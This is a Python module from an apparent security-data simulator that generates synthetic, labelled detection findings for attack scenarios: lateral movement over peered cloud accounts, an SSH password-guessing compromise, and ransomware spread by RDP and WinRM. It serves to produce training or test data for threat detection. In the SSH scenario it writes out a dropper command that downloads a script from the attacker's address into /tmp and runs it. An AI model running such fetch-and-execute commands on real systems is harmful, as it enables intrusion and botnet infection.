"""Attacks that travel: from host to host, from account to account, from the internet inwards."""

from __future__ import annotations

from tracehound.intrusions.estate.accounts import Place
from tracehound.intrusions.estate.hosts import Host
from tracehound.intrusions.internet import Address
from tracehound.intrusions.scene import Plot, Scene
from tracehound.intrusions.stories import moves
from tracehound.intrusions.wire import network, runtime


def peered_accounts(scene: Scene, begin: float) -> None:
    """From a host of one account into hosts of others, over peered networks, by their private addresses.

    Sources: ATT&CK T1021.004, T1046, T1570; Mitiga and Sygnia on lateral movement between VPCs; Ermetic
    on peering; SSH-Snake (Sysdig, 2024).
    """
    plot = scene.open("peered_accounts", "lateral movement", begin)
    dice, adversary = plot.dice, plot.adversary
    host: Host = scene.organization.host(dice)
    been: tuple[Place, ...] = (host.place,)
    shell = moves.shell(plot, host, host.service("java", "tomcat"))
    plot.entry(runtime.reverse_shell(host, shell, adversary.server, 8443))
    tool = adversary.own_tool()
    for _ in range(min(dice.choice((1, 2, 3, 4)), scene.organization.account_count - 1)):
        place = scene.organization.place(dice, been)
        been += (place,)
        other = scene.organization.host(dice, place)
        plot.wait()
        scanned = Address(other.private_ip)
        if dice.happens(0.7):
            plot.step(
                network.flow("Recon:EC2/Portscan", host, scanned, dice.randrange(32_768, 60_000), 22),
                dice.number(1, 200),
            )
            plot.wait()
        seen_by = dice.choice(("actor", "target", "both"))
        if seen_by != "target":
            plot.step(
                network.flow(
                    "UnauthorizedAccess:EC2/SSHBruteForce", host, scanned, dice.randrange(32_768, 60_000), 22
                ),
                dice.number(1, 300),
            )
        if seen_by != "actor":
            sight = network.flow(
                "UnauthorizedAccess:EC2/SSHBruteForce",
                other,
                Address(host.private_ip),
                22,
                dice.randrange(32_768, 60_000),
                False,
            )
            plot.step(sight, dice.number(1, 300))
        plot.wait()
        shell = moves.shell(plot, other, other.service("sshd"))
        process = moves.run(plot, other, tool, shell)
        plot.step(
            runtime.known_malware(other, process, "Linux.Backdoor.Gen")
            if dice.happens(0.5)
            else runtime.tool(other, process, "Tunnel", 7.0)
        )
        plot.wait()
        moves.call_home(plot, other, process)
        host = other
    if dice.happens(0.5):
        plot.wait()
        plot.loss(network.flow("Behavior:EC2/TrafficVolumeUnusual", host, adversary.server, 50_112, 443))


def scanner_gets_in(scene: Scene, begin: float) -> None:
    """An address guesses SSH passwords of many hosts; one has a weak one, and serves it from then on.

    Sources: ATT&CK T1110.003, T1595.001, T1133, T1090.003; Unit 42's honeypots; reports on XorDDoS and
    Outlaw.
    """
    plot = scene.open("scanner_gets_in", "guessed password", begin)
    dice, adversary = plot.dice, plot.adversary
    remote = adversary.server
    fallen = scene.organization.host(dice, purpose="bastion")
    reason = "the same address against another host: a scanner's finding, as far as anybody can tell"
    others = dice.some(scene.organization.hosts, dice.number(1, 60))
    for other in others:
        if other is fallen:
            continue
        at = begin + dice.uniform(-1, 1) * dice.spread(600, 90_000)
        sight = network.flow(
            "UnauthorizedAccess:EC2/SSHBruteForce", other, remote, 22, dice.randrange(30_000, 60_000), False
        )
        told = scene.noise("scanner_that_gets_in", sight, at, dice.number(1, 500), kind="internet scanner")
        told.label = type(told.label)(None, None, told.label.story, told.label.kind, "noise", reason)
    plot.entry(
        network.flow("UnauthorizedAccess:EC2/SSHBruteForce", fallen, remote, 22, 51_200, False),
        dice.number(50, 900),
    )
    plot.wait()
    shell = moves.shell(plot, fallen, moves.run(plot, fallen, fallen.tool("sshd"), fallen.service("sshd")))
    plot.step(
        runtime.command(
            "Execution", fallen, shell, f"cd /tmp; wget http://{remote.ip}/bins.sh; sh bins.sh", 7.0
        )
    )
    plot.wait()
    process = moves.run(plot, fallen, adversary.own_tool(), shell)
    if dice.happens(0.6):
        plot.step(runtime.connects("Backdoor:Runtime/C&CActivity.B", fallen, process, remote, 6667))
        plot.wait()
    last = dice.choice(("ddos", "tor", "mine", "ssh"))
    if last == "ddos":
        plot.lasting(
            plot.loss(
                network.flow(
                    "Backdoor:EC2/DenialOfService.Udp",
                    fallen,
                    scene.organization.internet.address("residential", dice),
                    40_000,
                    80,
                )
            ),
            10,
        )
    elif last == "tor":
        plot.loss(
            network.flow(
                "UnauthorizedAccess:EC2/TorClient",
                fallen,
                dice.choice(scene.organization.internet.tor_exits),
                40_000,
                9001,
            )
        )
    elif last == "mine":
        moves.mine(plot, fallen, process)
    else:
        far = scene.organization.internet.address("hosting", dice)
        plot.lasting(
            plot.loss(network.flow("UnauthorizedAccess:EC2/SSHBruteForce", fallen, far, 40_000, 22)), 30
        )


def windows_ransom(scene: Scene, begin: float) -> None:
    """By RDP to one Windows server, by WinRM and RDP to the others, data out, then everything encrypted.

    Sources: CISA AA23-319A, "#StopRansomware: Rhysida"; The DFIR Report on ransomware by RDP; ATT&CK
    T1021.001, T1021.006, T1048, T1486. No agent watches Windows: all that is seen are flows and names.
    """
    plot = scene.open("windows_ransom", "ransom", begin)
    dice, adversary = plot.dice, plot.adversary
    first = scene.organization.host(dice, purpose="desktop")
    plot.entry(
        network.flow("UnauthorizedAccess:EC2/RDPBruteForce", first, adversary.server, 3389, 50_001, False),
        dice.number(9, 900),
    )
    plot.wait()
    _windows_beacon(plot, first)
    for _ in range(dice.number(1, 6)):
        other = scene.organization.host(dice, first.place, purpose=dice.choice(("desktop", "erp")))
        plot.wait()
        kind, number = dice.choice(
            (("UnauthorizedAccess:EC2/RDPBruteForce", 3389), ("Impact:EC2/WinRMBruteForce", 5985))
        )
        if dice.happens(0.5):
            plot.step(
                network.flow(kind, other, Address(first.private_ip), number, 49_800, False),
                dice.number(1, 90),
            )
        else:
            plot.step(
                network.flow(kind, first, Address(other.private_ip), 49_800, number), dice.number(1, 90)
            )
        if dice.happens(0.6):
            plot.wait()
            _windows_beacon(plot, other)
    plot.wait()
    plot.lasting(
        plot.loss(network.flow("Behavior:EC2/TrafficVolumeUnusual", first, adversary.address, 50_112, 443)),
        30,
    )


def _windows_beacon(plot: Plot, host: Host) -> None:
    if plot.dice.happens(0.6):
        kind = plot.dice.choice(
            ("Backdoor:EC2/C&CActivity.B!DNS", "Impact:EC2/MaliciousDomainRequest.Reputation")
        )
        found = plot.step(network.name_query(kind, host, plot.adversary.domain))
    else:
        found = plot.step(
            network.flow("Backdoor:EC2/C&CActivity.B", host, plot.adversary.server, 50_100, 443)
        )
    plot.lasting(found, plot.dice.spread(4, 90))
